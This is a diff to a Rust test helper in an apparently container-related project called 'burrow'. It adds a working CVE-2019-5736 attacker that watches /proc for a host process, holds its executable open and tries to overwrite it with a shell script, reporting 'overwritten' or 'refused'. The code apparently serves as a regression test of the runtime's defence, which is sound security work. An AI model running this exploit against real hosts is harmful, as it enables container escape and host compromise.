@@ -56,3 +56,80 @@ pub fn test_user_ids() -> (u32, u32) {
         .unwrap_or_else(|| panic!("user {TEST_USER} is missing: run the README's test command, which creates it"));
     (user.uid.as_raw(), user.gid.as_raw())
 }
+
+/// A CVE-2019-5736 attacker, run inside a container: wait for a process
+/// under `proc` whose executable is neither busybox nor this program (and,
+/// with `marker`, whose environment holds it), open what it runs, wait for
+/// it to exit, and try to write to that file through the fd. The outcome
+/// goes to `report`: "caught EXE ...", then "overwritten" or "refused: ...";
+/// or "nothing caught".
+pub fn watch_and_overwrite(proc: &Path, report: &Path, marker: Option<&str>) {
+    use std::io::Write;
+    use std::time::{Duration, Instant};
+    // Ourselves, as `proc` names us (there may be no /proc of our own).
+    let own = std::fs::read_link(proc.join("self"))
+        .ok()
+        .and_then(|p| p.to_str()?.parse::<i32>().ok())
+        .unwrap_or(-1);
+    let mut out = std::fs::File::create(report).unwrap();
+    // Processes that are of no interest for good (with a marker: those
+    // that do not even run burrow), so that each scan is quick.
+    let mut ignored = std::collections::HashSet::new();
+    let deadline = Instant::now() + Duration::from_secs(15);
+    while Instant::now() < deadline {
+        for entry in std::fs::read_dir(proc).unwrap().flatten() {
+            let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
+                continue;
+            };
+            if pid == own || ignored.contains(&pid) {
+                continue;
+            }
+            let dir = proc.join(pid.to_string());
+            let Ok(exe) = std::fs::read_link(dir.join("exe")) else {
+                continue;
+            };
+            if exe.ends_with("busybox") || marker.is_some() && !exe.to_string_lossy().contains("burrow") {
+                ignored.insert(pid);
+                continue;
+            }
+            if let Some(marker) = marker {
+                let environ = std::fs::read(dir.join("environ")).unwrap_or_default();
+                if !String::from_utf8_lossy(&environ).contains(marker) {
+                    continue;
+                }
+            }
+            let Ok(held) = std::fs::File::open(dir.join("exe")) else {
+                continue;
+            };
+            let cmdline = std::fs::read(dir.join("cmdline")).unwrap_or_default();
+            let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
+            writeln!(out, "caught {} (pid {pid}: {cmdline})", exe.display()).unwrap();
+            while dir.exists() {
+                std::thread::sleep(Duration::from_millis(1));
+            }
+            let fd = std::os::fd::AsRawFd::as_raw_fd(&held);
+            let attempt = std::fs::OpenOptions::new()
+                .write(true)
+                .open(format!("/proc/self/fd/{fd}"))
+                .and_then(|mut f| f.write_all(b"#!/bin/sh\necho pwned\n"));
+            match attempt {
+                Ok(()) => writeln!(out, "overwritten").unwrap(),
+                Err(e) => writeln!(out, "refused: {e}").unwrap(),
+            }
+            return;
+        }
+    }
+    writeln!(out, "nothing caught").unwrap();
+}
+
+/// [`watch_and_overwrite`] as configured by the environment:
+/// `BURROW_WATCHER_REPORT` (the report; nothing happens without it),
+/// `BURROW_WATCHER_PROC` (default /proc) and `BURROW_WATCHER_MARKER`.
+pub fn watcher_main() {
+    let Some(report) = std::env::var_os("BURROW_WATCHER_REPORT") else {
+        return;
+    };
+    let proc = std::env::var_os("BURROW_WATCHER_PROC").unwrap_or_else(|| "/proc".into());
+    let marker = std::env::var("BURROW_WATCHER_MARKER").ok();
+    watch_and_overwrite(Path::new(&proc), Path::new(&report), marker.as_deref());
+}
